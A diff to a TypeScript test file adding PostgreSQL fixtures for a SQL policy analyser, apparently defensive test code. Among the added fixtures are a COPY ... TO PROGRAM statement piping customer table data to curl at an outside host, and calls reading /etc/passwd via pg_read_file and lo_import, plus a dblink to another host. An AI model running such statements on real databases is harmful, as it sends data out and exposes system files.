@@ -12,6 +12,9 @@ const policies = new URL('../../policies/', import.meta.url)
 const ORDERS = 'analytics.public.orders'
 
 /** SQL text of policies/cases/default.cases.yaml → fixture statements. */
+/** psql's \\dt query, as in policies/cases/default.cases.yaml. */
+const PSQL_DT = 'SELECT n.nspname as "Schema", c.relname as "Name", CASE c.relkind WHEN \'r\' THEN \'table\' END as "Type", pg_catalog.pg_get_userbyid(c.relowner) as "Owner" FROM pg_catalog.pg_class c LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace WHERE c.relkind IN (\'r\',\'p\',\'\') AND n.nspname <> \'pg_catalog\' AND n.nspname !~ \'^pg_toast\' AND n.nspname <> \'information_schema\' AND pg_catalog.pg_table_is_visible(c.oid) ORDER BY 1,2'
+
 const FIXTURES: Record<string, StatementAnalysis[]> = {
   'SELECT id, total FROM analytics.public.orders': [stmt('select', { tablesRead: [ORDERS] })],
   'SELECT name FROM `acme-data.sales.customers` LIMIT 10': [stmt('select', { tablesRead: ['acme-data.sales.customers'], hasLimit: true })],
@@ -32,7 +35,18 @@ const FIXTURES: Record<string, StatementAnalysis[]> = {
   'SELECT id FROM analytics.public.orders': [stmt('select', { tablesRead: [ORDERS] })],
   'SELECT 1': [stmt('select', { text: 'SELECT 1' })],
   'SELECT * FROM TABLE(RESULT_SCAN(LAST_QUERY_ID()))': [stmt('select', { functions: ['last_query_id', 'result_scan'], rereads: [{ kind: 'result_scan', name: 'result_scan' }] })],
-  'SELECT query FROM `region-us`.INFORMATION_SCHEMA.JOBS': [stmt('select', { tablesRead: ['region-us.information_schema.jobs'], rereads: [{ kind: 'jobs', name: 'region-us.information_schema.jobs' }] })]
+  'SELECT query FROM `region-us`.INFORMATION_SCHEMA.JOBS': [stmt('select', { tablesRead: ['region-us.information_schema.jobs'], rereads: [{ kind: 'jobs', name: 'region-us.information_schema.jobs' }] })],
+  // PostgreSQL: COPY in every direction, server-side functions, LISTEN / NOTIFY, catalog reads.
+  'COPY public.customers FROM STDIN': [stmt('copy', { tablesWritten: ['app.public.customers'] })],
+  'COPY public.customers TO STDOUT': [stmt('copy', { tablesRead: ['app.public.customers'] })],
+  "COPY public.customers TO PROGRAM 'curl -d @- https://example.com'": [stmt('copy', { tablesRead: ['app.public.customers'] })],
+  "SELECT pg_read_file('/etc/passwd')": [stmt('call', { functions: ['pg_read_file'], acting: ['pg_read_file'] })],
+  "SELECT lo_import('/etc/passwd')": [stmt('call', { functions: ['lo_import'], acting: ['lo_import'] })],
+  "SELECT * FROM dblink('host=elsewhere', 'select 1') AS t(x int)": [stmt('call', { functions: ['dblink'], acting: ['dblink'] })],
+  'LISTEN orders': [stmt('session')],
+  "NOTIFY orders, 'x'": [stmt('session')],
+  [PSQL_DT]: [stmt('select', { tablesRead: ['app.pg_catalog.pg_class', 'app.pg_catalog.pg_namespace'], functions: ['pg_catalog.pg_get_userbyid', 'pg_catalog.pg_table_is_visible'] })],
+  "SELECT table_name, column_name, data_type FROM information_schema.columns WHERE table_schema = 'public'": [stmt('select', { tablesRead: ['app.information_schema.columns'] })]
 }
 
 const fixtureAnalyze: AnalyzeFn = (sql, dialect) => {
